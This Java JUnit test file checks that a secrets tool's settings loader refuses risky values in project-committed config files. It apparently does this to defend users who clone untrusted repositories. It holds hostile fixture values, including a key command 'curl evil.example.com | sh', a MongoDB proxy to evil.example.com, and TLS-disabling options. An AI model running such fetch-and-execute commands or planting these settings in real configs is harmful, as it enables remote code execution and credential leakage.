// SPDX-License-Identifier: Apache-2.0
package dev.kist.internal.settings;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.kist.InvalidInputException;
import dev.kist.Setting;
import dev.kist.StoreDescription;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a cloned project may not say: it would have this machine hand out what it has of its own. */
class PlaceRulesTest extends SettingsFixture {
    private static final String ADDRESS = "hcvault://evil.example.com/transit/keys/a";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "mongodb://u:canary@db/app",
                "mongodb://u@db/?tlsCertificateKeyFilePassword=canary",
                "mongodb://db/?authMechanism=MONGODB-OIDC&authMechanismProperties=ENVIRONMENT:k8s",
                "mongodb://db/?authMechanism=mongodb-aws",
                "mongodb://db/?AUTHMECHANISM=MONGODB%2DAWS",
                "mongodb://u@db/?authMechanism=GSSAPI",
                "mongodb://db/?tls=true&authMechanism=MONGODB-X509",
                "mongodb://db/?tls=true&TLScertificateKeyFile=/home/a/tls/client.pem",
                "mongodb+srv://db.example.com/?w=1;authMechanism=GSSAPI",
                "mongodb://db/?proxyHost=evil.example.com",
                "mongodb://db/?proxyPort=1080",
                "mongodb://db/?tls=true&tlsInsecure=true",
                "mongodb://db/?tls=true&tlsAllowInvalidHostnames=true",
                "mongodb://db/?tls=true&tlsAllowInvalidCertificates=true",
                "mongodb://db/?sslInvalidHostNameAllowed=true",
            })
    void uriThatHandsSomethingOut_isRefusedInACommittedFile_andWorksInTheLocalOne(String uri) throws IOException {
        String line = "KIST_MONGODB_URI='" + uri + "'\n";
        for (String name : List.of("config", "config.development")) {
            Path file = write(name, line);
            assertThatThrownBy(this::settings)
                    .isInstanceOf(InvalidInputException.class)
                    .hasMessageStartingWith(file + ":1: KIST_MONGODB_URI")
                    .hasMessageNotContaining("canary")
                    .satisfies(
                            e -> assertThat(((InvalidInputException) e).hint().orElseThrow())
                                    .contains("config.local"));
            Files.delete(file);
        }

        write("config.local", line);
        assertThat(value(Setting.MONGODB_URI)).isEqualTo(uri);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "mongodb://db.example.com/app?tls=true&replicaSet=rs",
                "mongodb://u@db/?tls=true&tlsCAFile=/etc/ca.pem&tlsInsecure=false",
                "mongodb+srv://db.example.com/app",
            })
    void uriThatHandsNothingOut_mayBeCommitted(String uri) throws IOException {
        write("config", "KIST_MONGODB_URI=" + uri + "\n");

        assertThat(value(Setting.MONGODB_URI)).isEqualTo(uri);
    }

    @Test
    void localFileThatGitTracks_isACommittedOne() throws Exception {
        write("config.local", "KIST_MONGODB_URI=mongodb://db/?authMechanism=MONGODB-OIDC\n");
        assertThat(value(Setting.MONGODB_URI)).contains("OIDC");

        for (String version : List.of("2", "3", "4")) {
            git("-c", "index.version=" + version, "init", "-q");
            git("add", "-f", ".kist/config.local");
            git("update-index", "--index-version", version);

            assertThatThrownBy(this::settings)
                    .hasMessageContaining("authMechanism=MONGODB-OIDC")
                    .satisfies(
                            e -> assertThat(((InvalidInputException) e).hint().orElseThrow())
                                    .contains("take this file out of git: git rm --cached " + folder + "/config.local")
                                    .doesNotContain("move the line"));
        }
        git("rm", "-q", "--cached", ".kist/config.local");
        assertThat(value(Setting.MONGODB_URI)).contains("OIDC");
    }

    @Test
    void keyCommand_isTakenFromNoFile() throws IOException {
        for (String name : List.of("config", "config.development", "config.local")) {
            Path file = write(name, "KIST_KEY_COMMAND='curl evil.example.com | sh'\n");
            assertThatThrownBy(this::settings).hasMessageContaining("from the environment alone");
            Files.delete(file);
        }
    }

    @Test
    void key_isRefusedInACommittedFile_andWhereOthersCanReadIt() throws IOException {
        write("config", "KIST_KEY=" + KEY + "\n");
        assertThatThrownBy(this::settings)
                .hasMessageContaining("KIST_KEY does not belong in a file that is to be committed")
                .hasMessageNotContaining(KEY);
        write("config", "KIST_KEY=" + ADDRESS + "\n");
        assertThatThrownBy(this::settings).hasMessageContaining("the address of a key service");
        write("config", "");

        write("config.local", "KIST_KEY=" + KEY + "\n");
        assertThat(keys()).hasSize(1);
        write(folder.resolve("config.local"), "KIST_KEY=" + KEY + "\n", "rw-r--r--");
        assertThatThrownBy(this::settings).hasMessageContaining("others can read it");
    }

    @Test
    void localFileThatOthersCanRead_isRefusedWhereItHoldsAPassword() throws IOException {
        Path local = folder.resolve("config.local");
        write(local, "KIST_MONGODB_URI=mongodb://db/app\n", "rw-r--r--");
        assertThat(value(Setting.MONGODB_URI)).isEqualTo("mongodb://db/app");

        write(local, "KIST_MONGODB_URI=mongodb://u:canary@db/app\n", "rw-r-----");

        assertThatThrownBy(this::settings).hasMessageContaining("holds a password, and others can read it");
    }

    @Test
    void keyFileThatAProjectNames_holdsNoAddress() throws IOException {
        write("config", "KIST_KEY_FILE=shared.key\n");
        write(project.resolve("shared.key"), ADDRESS + "\n", "rw-------");
        assertThatThrownBy(this::keys)
                .hasMessageContaining("holds the address of a key service")
                .hasMessageContaining(folder + "/config:1");

        write("config", "");
        variables.put("KIST_KEY_FILE", project.resolve("shared.key").toString());
        assertThat(keys()).hasSize(1);
    }

    @Test
    void keyFileThatCameWithAClone_holdsNoAddress() throws Exception {
        write("key", ADDRESS + "\n");
        assertThat(keys()).hasSize(1);
        git("init", "-q");
        git("add", "-f", ".kist/key");

        assertThatThrownBy(this::keys).hasMessageContaining("git has it, or a link to it, in its index");
    }

    /** {@code config.local} is the machine's, and no file of an environment that happens to be called so. */
    @Test
    void environmentCalledLocal_hasNoFileOfItsOwn() throws IOException {
        variables.put("KIST_ENVIRONMENT", "local");
        write("config.local", "KIST_KEY=" + KEY + "\nKIST_ENVIRONMENT=other\n");

        assertThat(keys()).hasSize(1);
        assertThat(settings().warnings()).isEmpty();
        variables.put("KIST_ENVIRONMENT", "Local");
        write("config.Local", "KIST_DATABASE=a\n");
        assertThat(settings().find(Setting.DATABASE)).isEmpty();
    }

    @Test
    void settingsOfKeyServices_inAProjectsFile_areNone() throws IOException {
        write(
                "config",
                "AWS_ENDPOINT_URL_KMS=http://127.0.0.1:1\nVAULT_ADDR=https://evil.example.com\nVAULT_TOKEN=x\n");

        assertThat(settings().warnings()).hasSize(3).allMatch(warning -> warning.contains("is no setting of Kist"));
        assertThat(settings().options().variables()).doesNotContainKeys("AWS_ENDPOINT_URL_KMS", "VAULT_ADDR");
    }

    /** Else whoever can write to the repository would overrule what the user trusts. */
    @Test
    void fingerprintInACommittedFile_isTheProjectsWord() throws IOException {
        write("config", "KIST_FINGERPRINT=" + "a".repeat(32) + "\n");
        StoreDescription store = new StoreDescription("db", "app.secrets", false);
        assertThat(settings().knownFingerprints(store).isGiven()).isFalse();
        assertThat(settings().knownFingerprints(store).ofProject(settings().environment()))
                .hasSize(1);

        write("config.local", "KIST_FINGERPRINT=" + "b".repeat(32) + "\n");
        assertThat(settings().knownFingerprints(store).isGiven()).isTrue();
    }

    private List<Object> keys() {
        return new ArrayList<>(settings().keys(new ArrayList<>()).asList());
    }
}
